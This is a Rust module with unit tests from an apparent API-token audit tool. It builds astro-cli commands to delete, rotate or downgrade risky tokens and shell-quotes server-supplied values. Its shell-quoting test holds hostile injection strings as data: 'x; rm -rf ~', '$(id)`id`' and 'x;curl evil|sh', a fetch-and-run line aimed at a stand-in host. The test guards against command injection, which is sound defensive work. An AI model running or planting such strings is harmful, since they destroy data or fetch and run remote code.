//! What to do about a finding: one line naming the astro-cli command to run.
//!
//! astro-cli manages a token under its `scope` (its `cmd/cloud/` commands; v1beta1 called the
//! field `type`):
//! `astro organization token ... --organization-id ORG`, `astro workspace token ...
//! --workspace-id WS`, `astro deployment token ... --deployment-id DEP`, each with
//! `rotate [TOKEN_ID]`, `delete [TOKEN_ID]`, `update [TOKEN_ID] --new-name/--role` and
//! `create --name --role --expiration DAYS`; `astro organization token roles [TOKEN_ID]`
//! lists a token's roles. The workspace and deployment come from the token's roles on them.
//! Values from the server (ids, names, roles) are shell-quoted, so a hostile name cannot
//! turn a pasted command into another one.

use astro_tokens::{ApiToken, ApiTokenRoleEntityType, ApiTokenScope};

use super::rules::{FindingId, OWNER_ROLE, Thresholds, organization_roles};

/// The lowest organization role, the one least privilege points to.
const MEMBER_ROLE: &str = "ORGANIZATION_MEMBER";

/// The remediation of finding `id` about `token`, listed in `organization_id`.
pub fn remediation(
    id: FindingId,
    token: &ApiToken,
    organization_id: &str,
    thresholds: &Thresholds,
) -> String {
    let token_id = shell_word(&token.id);
    if id == FindingId::OrganizationRole {
        // Organization roles are managed with the organization's commands, whatever the scope.
        return least_privilege(token, &token_id, organization_id);
    }
    let Some(scope) = Scope::of(token, organization_id) else {
        return format!(
            "Manage it in the Astro UI (Organization Settings > Access Management > API Tokens): \
             astro-cli has no command for tokens of scope {}",
            token.scope
        );
    };
    let command = |verb: &str| invocation(scope.group, verb, &token_id, &scope.flag);
    match id {
        FindingId::Expired => format!(
            "Delete the expired token (create a new one if it is still needed): {}",
            command("delete")
        ),
        FindingId::ExpiringSoon => format!(
            "Rotate it before it expires (a rotation restarts its expiry period), then update \
             where it is used: {}",
            command("rotate")
        ),
        FindingId::NoExpiry => format!(
            "Replace it with a token that expires: {} create --name {} --role {} --expiration \
             {} {}, move its users to the new token, then {}",
            scope.group,
            shell_word(&token.name),
            scope.role,
            thresholds.rotate_after_days.clamp(1, 3650),
            scope.flag,
            command("delete")
        ),
        FindingId::NeverUsed | FindingId::Unused => {
            format!("Delete it if nothing needs it: {}", command("delete"))
        }
        FindingId::NotRotated => format!(
            "Rotate it, then update where it is used: {}",
            command("rotate")
        ),
        FindingId::OrganizationRole => least_privilege(token, &token_id, organization_id),
        FindingId::DuplicateName => format!(
            "Give it a unique name (astro-cli's --name picks tokens by name): {}",
            invocation(
                scope.group,
                "update",
                &token_id,
                &format!("--new-name <NEW_NAME> {}", scope.flag)
            )
        ),
    }
}

/// Least privilege for a token with an organization role: lower an owner or billing admin
/// to member, else check the role is needed at all.
fn least_privilege(token: &ApiToken, token_id: &str, organization_id: &str) -> String {
    let org = Scope::organization(organization_id);
    let over_member = organization_roles(token)
        .any(|r| r.role == OWNER_ROLE || r.role == "ORGANIZATION_BILLING_ADMIN");
    if over_member {
        format!(
            "Grant only what it needs (least privilege); if it does not administer the \
             organization: {}",
            invocation(
                org.group,
                "update",
                token_id,
                &format!("--role {MEMBER_ROLE} {}", org.flag)
            )
        )
    } else {
        format!(
            "Check it needs an organization role ({}); else use a Workspace or \
             Deployment token with the least role it needs",
            invocation(org.group, "roles", token_id, &org.flag)
        )
    }
}

/// `GROUP VERB ID FLAGS`; an id that starts with `-` goes last, after `--`, so that
/// astro-cli cannot read it as a flag.
fn invocation(group: &str, verb: &str, token_id: &str, flags: &str) -> String {
    if token_id.starts_with('-') {
        format!("{group} {verb} {flags} -- {token_id}")
    } else {
        format!("{group} {verb} {token_id} {flags}")
    }
}

/// The astro-cli command group of a token, its scope flag and its role there.
struct Scope {
    /// `astro organization token`, ...
    group: &'static str,
    /// `--organization-id ORG`, ...
    flag: String,
    /// The token's role on its scope (shell-quoted), else `<ROLE>`.
    role: String,
}

impl Scope {
    fn organization(organization_id: &str) -> Self {
        Self {
            group: "astro organization token",
            flag: format!("--organization-id {}", shell_word(organization_id)),
            role: "<ROLE>".to_owned(),
        }
    }

    /// `None` for a token scope this version does not know.
    fn of(token: &ApiToken, organization_id: &str) -> Option<Self> {
        let role_on =
            |entity: ApiTokenRoleEntityType| token.roles.iter().find(|r| r.entity_type == entity);
        let (group, option, entity) = match token.scope {
            ApiTokenScope::Organization => {
                let mut scope = Self::organization(organization_id);
                if let Some(role) = role_on(ApiTokenRoleEntityType::Organization) {
                    scope.role = shell_word(&role.role);
                }
                return Some(scope);
            }
            ApiTokenScope::Workspace => (
                "astro workspace token",
                "--workspace-id",
                ApiTokenRoleEntityType::Workspace,
            ),
            ApiTokenScope::Deployment => (
                "astro deployment token",
                "--deployment-id",
                ApiTokenRoleEntityType::Deployment,
            ),
            _ => return None,
        };
        let placeholder = match option {
            "--workspace-id" => "<WORKSPACE_ID>",
            _ => "<DEPLOYMENT_ID>",
        };
        let role = role_on(entity);
        Some(Self {
            group,
            flag: format!(
                "{option} {}",
                role.map_or_else(|| placeholder.to_owned(), |r| shell_word(&r.entity_id))
            ),
            role: role.map_or_else(|| "<ROLE>".to_owned(), |r| shell_word(&r.role)),
        })
    }
}

/// `text` as one POSIX shell word: unchanged when it holds only characters no shell
/// interprets, else single-quoted (`'it'\''s'`).
pub fn shell_word(text: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-_.,:/@%+=".contains(c);
    if !text.is_empty() && text.chars().all(safe) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn token(scope: &str, roles: serde_json::Value) -> ApiToken {
        serde_json::from_value(json!({
            "id": "clt0ken", "name": "ci bot", "description": "", "shortToken": "s",
            "scope": scope, "kind": "STANDARD",
            "createdAt": "2025-01-01T00:00:00Z", "startAt": "2025-01-01T00:00:00Z",
            "updatedAt": "2025-01-01T00:00:00Z", "roles": roles
        }))
        .expect("valid token")
    }

    fn role(entity_type: &str, entity_id: &str, role: &str) -> serde_json::Value {
        json!({"entityId": entity_id, "entityType": entity_type, "role": role})
    }

    fn fix(id: FindingId, token: &ApiToken) -> String {
        remediation(id, token, "clorg", &Thresholds::default())
    }

    #[test]
    fn each_scope_has_its_astro_cli_command_and_flag() {
        let org = token(
            "ORGANIZATION",
            json!([role("ORGANIZATION", "clorg", "ORGANIZATION_MEMBER")]),
        );
        assert!(
            fix(FindingId::NotRotated, &org)
                .ends_with(": astro organization token rotate clt0ken --organization-id clorg"),
            "{}",
            fix(FindingId::NotRotated, &org)
        );
        let ws = token(
            "WORKSPACE",
            json!([role("WORKSPACE", "clws", "WORKSPACE_OPERATOR")]),
        );
        assert!(
            fix(FindingId::Expired, &ws)
                .ends_with(": astro workspace token delete clt0ken --workspace-id clws")
        );
        let dep = token(
            "DEPLOYMENT",
            json!([role("DEPLOYMENT", "cldep", "DEPLOYMENT_ADMIN")]),
        );
        assert!(
            fix(FindingId::Unused, &dep)
                .ends_with(": astro deployment token delete clt0ken --deployment-id cldep")
        );
        let no_roles = token("WORKSPACE", json!([]));
        assert!(fix(FindingId::NotRotated, &no_roles).contains("--workspace-id <WORKSPACE_ID>"));
    }

    #[test]
    fn no_expiry_recreates_with_an_expiration_and_the_same_role() {
        let ws = token(
            "WORKSPACE",
            json!([role("WORKSPACE", "clws", "WORKSPACE_OPERATOR")]),
        );
        let text = fix(FindingId::NoExpiry, &ws);
        assert!(
            text.contains(
                "astro workspace token create --name 'ci bot' --role WORKSPACE_OPERATOR \
                 --expiration 180 --workspace-id clws"
            ),
            "{text}"
        );
        assert!(
            text.ends_with("astro workspace token delete clt0ken --workspace-id clws"),
            "{text}"
        );
    }

    #[test]
    fn organization_roles_point_to_least_privilege() {
        let owner = token(
            "ORGANIZATION",
            json!([role("ORGANIZATION", "clorg", "ORGANIZATION_OWNER")]),
        );
        assert!(fix(FindingId::OrganizationRole, &owner).ends_with(
            "astro organization token update clt0ken --role ORGANIZATION_MEMBER \
             --organization-id clorg"
        ));
        let member = token(
            "ORGANIZATION",
            json!([role("ORGANIZATION", "clorg", "ORGANIZATION_MEMBER")]),
        );
        assert!(
            fix(FindingId::OrganizationRole, &member)
                .contains("astro organization token roles clt0ken --organization-id clorg")
        );
    }

    #[test]
    fn an_unknown_token_scope_gets_advice_not_a_guessed_command() {
        let future = token("CLUSTER", json!([]));
        let text = fix(FindingId::Unused, &future);
        assert!(
            text.contains("Astro UI") && text.contains("CLUSTER"),
            "{text}"
        );
        assert!(!text.contains("astro organization"), "{text}");
    }

    #[test]
    fn server_values_are_single_shell_words() {
        assert_eq!(shell_word("clx9abc"), "clx9abc");
        assert_eq!(shell_word("a b"), "'a b'");
        assert_eq!(shell_word("x; rm -rf ~"), "'x; rm -rf ~'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
        assert_eq!(shell_word(""), "''");
        let mut flag_like = token("ORGANIZATION", json!([]));
        flag_like.id = "--force".to_owned();
        assert!(
            fix(FindingId::Expired, &flag_like)
                .ends_with("astro organization token delete --organization-id clorg -- --force"),
            "{}",
            fix(FindingId::Expired, &flag_like)
        );
        let mut hostile = token("ORGANIZATION", json!([]));
        hostile.id = "x;curl evil|sh".to_owned();
        assert!(
            fix(FindingId::Expired, &hostile)
                .contains("astro organization token delete 'x;curl evil|sh' --organization-id")
        );
    }
}
